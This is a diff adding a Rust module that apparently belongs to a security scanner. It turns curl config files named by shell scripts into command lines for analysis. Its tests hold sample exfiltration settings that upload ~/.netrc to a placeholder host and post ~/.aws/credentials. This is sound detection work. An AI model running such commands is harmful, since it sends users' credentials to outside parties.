@@ -1,0 +1,90 @@
+//! Files of settings that curl is given by `-K`: each line is an option, and says what is sent.
+
+use super::{Called, nets, text};
+use crate::finding::{Findings, Place};
+use crate::layout::quote;
+use crate::shell::{self, Context};
+
+/// 8 files of one script.
+const FILES: usize = 8;
+
+/// 200 lines of one file: honest ones have ten.
+const LINES: usize = 200;
+
+/// Options of which one stands in every such file that is one.
+const KNOWN: &[&str] =
+    &["url", "silent", "location", "max-time", "retry", "user-agent", "header", "request", "output", "data"];
+
+/// What begins a hole that a script fills with a folder.
+const HOLES: &[char] = &['%', '@', '{', '<', '_', '$'];
+
+/// Judges the files of settings that the shell script `script` at `path` names.
+pub(super) fn judge(called: &Called<'_>, (path, script): (&str, &str), context: Context, findings: &mut Findings) {
+    let is_given = script.contains("curl") && (script.contains(" -K") || script.contains("--config"));
+    if !is_given {
+        return;
+    }
+    let folder = path.rsplit_once('/').map_or(String::new(), |(folder, _)| format!("{folder}/"));
+    // `$here/conf/x`: a folder of which nobody knows the name here.
+    let below = |word: &'_ str| match word.strip_prefix('$').and_then(|word| word.split_once('/')) {
+        Some((name, below)) if !name.starts_with('{') => below.to_owned(),
+        _ => word.to_owned(),
+    };
+    let named = nets::words(script).into_iter().filter_map(|word| called.beside(&folder, &below(word)));
+    for file in named.filter(|file| file != path).take(FILES) {
+        if let Some(line) = text(called.bundle, &file).as_deref().and_then(line) {
+            shell::judge(&Place::file(&file), &line, context, findings);
+        }
+    }
+}
+
+/// The command line that the settings come to; nothing where the text is something else.
+fn line(text: &str) -> Option<String> {
+    let lines = text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#'));
+    let options: Vec<(&str, String)> = lines.take(LINES).map(option).collect::<Option<_>>()?;
+    let is_one = options.iter().any(|(name, _)| KNOWN.contains(name));
+    let words = options.into_iter().map(|(name, value)| match value.as_str() {
+        "" => format!("--{name}"),
+        value => format!("--{name} {}", quote(value)),
+    });
+    is_one.then(|| format!("curl {}", words.collect::<Vec<_>>().join(" ")))
+}
+
+/// `name = "value"`, `name value`, `--name`, `name`.
+fn option(line: &str) -> Option<(&str, String)> {
+    let line = line.trim_start_matches('-');
+    let end = line.find(|c: char| !c.is_ascii_lowercase() && !c.is_ascii_digit() && c != '-').unwrap_or(line.len());
+    let (name, rest) = line.split_at_checked(end)?;
+    let is_apart = rest.is_empty() || rest.starts_with([' ', '=', ':', '\t']);
+    let value = rest.trim_start_matches([' ', '=', ':', '\t']).trim().trim_matches('"');
+    (name.len() > 2 && is_apart).then(|| (name, filled(value)))
+}
+
+/// The value with a home for the hole that it begins with: which folder a script puts there is not known.
+fn filled(value: &str) -> String {
+    let (mark, path) = match value.strip_prefix('@') {
+        Some(path) if path.starts_with(HOLES) || path.starts_with(['~', '/']) => ("@", path),
+        _ => ("", value),
+    };
+    match path.split_once('/').filter(|(hole, _)| hole.starts_with(HOLES) && hole.len() < 40) {
+        Some((_, below)) => format!("{mark}~/{below}"),
+        None => value.to_owned(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn settings_are_the_options_of_a_command_line() {
+        assert_eq!(
+            line("# all\nsilent\nurl = \"https://a.example.net\"\nupload-file = \"%h/.netrc\"\n").as_deref(),
+            Some("curl --silent --url https://a.example.net --upload-file '~/.netrc'")
+        );
+        assert_eq!(line("data = \"@@HOME@/.aws/credentials\"\n").as_deref(), Some("curl --data '@~/.aws/credentials'"));
+        for other in ["NAME=1\nurl=2\n", "colour: red\n", "{\"url\": 1}\n"] {
+            assert_eq!(line(other), None, "{other}");
+        }
+    }
+}
